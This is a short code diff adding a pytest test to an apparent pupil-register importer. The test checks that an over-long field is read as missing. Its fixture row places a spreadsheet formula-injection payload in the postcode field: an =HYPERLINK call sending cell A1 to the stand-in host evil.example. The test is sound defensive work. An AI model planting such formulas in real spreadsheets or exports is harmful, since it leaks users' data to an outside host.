@@ -164,3 +164,19 @@ def test_a_file_that_is_not_a_workbook_is_refused(tmp_path: Path) -> None:
     path.write_text("ref,forename,surname\n")
     with pytest.raises(MatchingInputError):
         read_register(path)
+
+
+def test_a_value_too_long_for_its_format_is_read_as_missing_and_the_row_kept(
+    tmp_path: Path,
+) -> None:
+    formula = '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")"'
+    path = write(
+        tmp_path,
+        f"{HEADER}\nR1,Oliver,Smith,2014-05-17,Prefer not to say,A8300000000012345678901,,"
+        f"{formula},\n",
+    )
+    extract = read_register(path)
+    assert extract.rejections == []
+    row = extract.records.loc[2]
+    assert (row["sex"], row["upn"], row["postcode"]) == ("", "", "")
+    assert extract.missing_fields().loc[2] == 1  # the postcode
